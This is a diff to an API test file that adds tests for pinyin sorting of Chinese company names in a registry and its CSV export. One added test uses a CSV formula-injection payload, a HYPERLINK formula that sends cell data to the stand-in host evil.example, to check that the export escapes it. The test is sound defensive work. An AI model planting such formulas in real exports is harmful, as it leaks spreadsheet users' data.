@@ -417,6 +417,42 @@ describe('entity routes', () => {
       expect(row).toMatchObject({ isBlacklisted: true, activeCard: 'red' });
     });
 
+    it('sorts Chinese names by pinyin, not by code point (丰岭 before 中合), in the list and the export', async () => {
+      // By code point 中 (U+4E2D) comes before 丰 (U+4E30); by pinyin feng comes before zhong.
+      const names = ['万安县中合化工有限公司', '万安县丰岭农业开发有限公司', '万安县中合化工二厂'];
+      const codes: string[] = [];
+      for (const name of names) {
+        const input = validInput({ name });
+        codes.push(input.creditCode);
+        expect((await county.post('/api/entities', input)).status).toBe(201);
+      }
+      const listed = await county.get(`/api/entities?q=${encodeURIComponent('万安县')}&sort=name`);
+      expect(listed.body.items.map((item: Item) => item.name)).toEqual([
+        '万安县丰岭农业开发有限公司',
+        '万安县中合化工二厂',
+        '万安县中合化工有限公司',
+      ]);
+      const descending = await county.get(`/api/entities?q=${encodeURIComponent('万安县')}&sort=-name`);
+      expect(descending.body.items[0].name).toBe('万安县中合化工有限公司');
+      const csv = await county.get(`/api/entities/export.csv?q=${encodeURIComponent('万安县')}`);
+      const exported = csv.raw.body.split('\r\n').filter((line: string) => line.includes('万安县'));
+      expect(exported.map((line: string) => names.find((name) => line.includes(name)))).toEqual([
+        '万安县丰岭农业开发有限公司',
+        '万安县中合化工二厂',
+        '万安县中合化工有限公司',
+      ]);
+      // A renamed entity moves with its new name.
+      const renamed = listed.body.items[0] as Item;
+      const patched = await county.patch(`/api/entities/${renamed.id}`, { name: '万安县中合化工三厂' });
+      expect(patched.status, JSON.stringify(patched.body)).toBe(200);
+      const after = await county.get(`/api/entities?q=${encodeURIComponent('万安县')}&sort=name`);
+      expect(after.body.items.map((item: Item) => item.name)).toEqual([
+        '万安县中合化工二厂',
+        '万安县中合化工三厂',
+        '万安县中合化工有限公司',
+      ]);
+    });
+
     it('pages and sorts on the server with stable pages', async () => {
       const first = await county.get('/api/entities?pageSize=7&sort=name');
       const second = await county.get('/api/entities?pageSize=7&page=2&sort=name');
@@ -426,7 +462,8 @@ describe('entity routes', () => {
       );
       const expected = await queryRows<{ id: string }>(
         server.db,
-        sql`SELECT id FROM regulated_entities WHERE county_code = '360121' ORDER BY name, id LIMIT 14`,
+        sql`SELECT id FROM regulated_entities WHERE county_code = '360121'
+            ORDER BY name_sort_key, name COLLATE "C", id LIMIT 14`,
       );
       expect(both.body.items.map((item: Item) => item.id)).toEqual(expected.map((row) => row.id));
       const descending = await county.get('/api/entities?pageSize=200&sort=-creditCode');
@@ -855,6 +892,18 @@ describe('entity routes', () => {
       const other = await otherCounty.get('/api/entities/export.csv');
       expect(other.raw.body).not.toContain(nanchangEntity.creditCode);
       expect(other.raw.body).toContain(jinxianEntity.creditCode);
+    });
+
+    it('writes a name that starts like a spreadsheet formula as text, so Excel does not run it', async () => {
+      const malicious = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")';
+      const input = validInput({ name: malicious, contactPerson: '@SUM(1+1)' });
+      expect((await county.post('/api/entities', input)).status).toBe(201);
+      const csv = await county.get(`/api/entities/export.csv?q=${encodeURIComponent(input.creditCode)}`);
+      expect(csv.status).toBe(200);
+      const [, row] = csv.raw.body.slice(1).trimEnd().split('\r\n');
+      expect(row).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`);
+      expect(row).toContain(`,'@SUM(1+1),`);
+      expect(row).not.toMatch(/(^|,)"?[=+\-@]/);
     });
   });
 });
